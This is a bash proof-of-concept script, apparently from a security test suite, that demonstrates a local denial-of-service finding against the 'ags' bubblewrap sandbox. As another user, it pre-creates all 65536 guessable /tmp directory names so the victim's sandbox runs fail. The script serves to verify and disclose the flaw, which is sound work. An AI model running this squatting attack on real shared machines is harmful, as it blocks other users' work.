#!/usr/bin/env bash
# FINDING (denial of service by another local user): without XDG_RUNTIME_DIR
# (su/sudo -i shells, ssh without pam_systemd, cron, CI) the per-run
# directory is <tmp>/ags-bwrap-ags-<workspace slug>-<4 hex digits>: 65536
# names per workspace, all guessable from the workspace's path.  Another user
# makes them all (a few seconds, ~65536 empty directories in /tmp); every
# create then fails with EEXIST, ags retries 5 new names and gives up, so no
# bubblewrap run of that workspace can start.  (Nothing is followed or
# removed: mkdir's EEXIST and the sweep's owner check hold.)
. "$(dirname "$0")/lib.sh"
atk_setup
ATTACKER=${ATK_ATTACKER:-nobody}
tmpdir=/tmp
# The name's stem, as the victim's ags makes it (ags plan prints it).
name=$(ATK_RT='' atk_ags plan --backend bwrap --agent shell 2>/dev/null | sed -n 's/.*name *\(ags-[^ ]*\)-[0-9a-f]\{4\}\b.*/\1/p' | head -1)
[ -n "$name" ] || name=$(ATK_RT='' atk_ags plan --backend bwrap --agent shell 2>&1 | grep -o 'ags-[a-z0-9-]*-[0-9a-f]\{4\}' | head -1 | sed 's/-[0-9a-f]\{4\}$//')
[ -n "$name" ] || atk_die "cannot read the sandbox name from ags plan"
echo "victim's sandbox names: $name-XXXX"
cleanup() { find "$tmpdir" -maxdepth 1 -name "ags-bwrap-$name-*" -user "$ATTACKER" -exec rmdir {} + 2>/dev/null || true; }
trap cleanup EXIT
runuser -u "$ATTACKER" -- python3 - "$tmpdir/ags-bwrap-$name" <<'PY'
import os, sys
for i in range(65536):
    try: os.mkdir("%s-%04x" % (sys.argv[1], i), 0o755)
    except FileExistsError: pass
PY
echo "squatted: $(find "$tmpdir" -maxdepth 1 -name "ags-bwrap-$name-*" -user "$ATTACKER" | wc -l) directories"
# The victim: no XDG_RUNTIME_DIR (env -i drops it; ATK_RT empty -> unset below).
out=$(runuser -u "$ATK_USER" -- env -i HOME="$ATK_DIR/home" PATH=/usr/bin:/bin XDG_CONFIG_HOME="$ATK_DIR/cfg" \
      XDG_DATA_HOME="$ATK_DIR/data" sh -c 'cd "$0" && exec "$@"' "$ATK_DIR/work/repo" "$ATK_BIN" \
      --backend bwrap --agent shell -- -c 'echo RAN' </dev/null 2>&1) && rc=0 || rc=$?
echo "$out"; echo "exit $rc"
[ "$rc" != 0 ] && ! echo "$out" | grep -q '^RAN$' && works "another user's squatted names stop every bubblewrap run of the workspace (exit $rc)"
held "the run started anyway"
